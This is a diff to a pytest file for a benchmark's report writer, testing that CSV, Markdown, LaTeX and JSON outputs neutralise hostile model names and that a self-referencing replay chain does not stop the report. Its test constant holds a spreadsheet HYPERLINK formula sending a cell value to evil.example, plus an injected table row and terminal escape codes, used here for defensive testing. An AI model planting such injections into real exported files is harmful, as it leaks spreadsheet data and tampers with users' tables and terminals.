@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import math
+from pathlib import Path
 
 import pytest
 from report_runs import score, write_run
@@ -25,22 +26,36 @@ from MedOpenClawLib.core.sinks import csv_cell, one_line, terminal_text, write_j
 HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n| injected | row |\x1b]0;title\x07'
 
 
-def test_report_tables_neutralise_formulas_and_fold_newlines(tmp_path):
-    root = tmp_path / "runs"
+@pytest.fixture(scope="module")
+def report(tmp_path_factory) -> tuple[Path, dict]:
+    """(folder, what write_report returned) of one report over the runs the sinks are tested with: a model run
+    whose model name is a spreadsheet formula holding a Markdown row and terminal escapes, and two replay runs whose
+    ``replay_from`` chain names itself (one report, not one per test: each drew the same figures, ~2 s of CPU)."""
+    root = tmp_path_factory.mktemp("sinks") / "runs"
     write_run(root, "hostile", "ucsf-pdgm", "model", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)], model=HOSTILE_MODEL)
-    write_report([root / "hostile"], tmp_path / "report", evidence=False)
-    rows = list(csv.DictReader(io.StringIO((tmp_path / "report" / "results.csv").read_text())))
+    run = write_run(root, "loop", "ucsf-pdgm", "replay", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)])
+    identity = json.loads((run / "run.json").read_text())
+    (run / "run.json").write_text(json.dumps({**identity, "replay_from": str(run)}))
+    other = write_run(root, "other", "ucsf-pdgm", "replay", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)])
+    (other / "run.json").write_text(json.dumps({**identity, "replay_from": str(run)}))
+    out = root.parent / "report"
+    return out, write_report([root], out, evidence=False)
+
+
+def test_report_tables_neutralise_formulas_and_fold_newlines(report):
+    out, _ = report
+    rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text())))
     for row in rows:
         assert not any(str(value).startswith(("=", "+", "@", "\t", "\r")) for value in row.values()), row
     assert any(row["model"].startswith("'=HYPERLINK") for row in rows)
-    markdown = (tmp_path / "report" / "results.md").read_text()
+    markdown = (out / "results.md").read_text()
     assert "\n| injected" not in markdown and "\x1b" not in markdown and "\x07" not in markdown
     table_lines = [line for line in markdown.splitlines() if line.startswith("|")]
     widths = {line.replace("\\|", "").count("|") for line in table_lines if "HYPERLINK" in line}
     assert widths and all("HYPERLINK" not in line or line.count("\\|") >= 2 for line in table_lines)
-    latex = (tmp_path / "report" / "results.tex").read_text()
+    latex = (out / "results.tex").read_text()
     assert "\x1b" not in latex and "\n| injected" not in latex and "\ninjected" not in latex
-    json.loads((tmp_path / "report" / "results.json").read_text())  # strict, parseable
+    json.loads((out / "results.json").read_text())  # strict, parseable
 
 
 def test_sink_helpers():
@@ -89,15 +104,9 @@ def test_cli_errors_reach_the_terminal_without_escape_sequences(tmp_path, capsys
     assert "\x1b" not in capsys.readouterr().err
 
 
-def test_a_replay_chain_that_names_itself_does_not_stop_bench_report(tmp_path):
-    root = tmp_path / "runs"
-    run = write_run(root, "loop", "ucsf-pdgm", "replay", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)])
-    identity = json.loads((run / "run.json").read_text())
-    (run / "run.json").write_text(json.dumps({**identity, "replay_from": str(run)}))
-    other = write_run(root, "other", "ucsf-pdgm", "replay", [score("ucsf-pdgm", "U0", 1.0, 1.0, 1.0)])
-    (other / "run.json").write_text(json.dumps({**identity, "replay_from": str(run)}))
-    written = write_report([root], tmp_path / "report", evidence=False)
-    assert written["runs"] == 2
+def test_a_replay_chain_that_names_itself_does_not_stop_bench_report(report):
+    _, written = report
+    assert written["runs"] == 3  # the looping replay runs and the hostile model run
 
 
 def test_malformed_bracs_geojson_skips_that_slide_only(tmp_path):
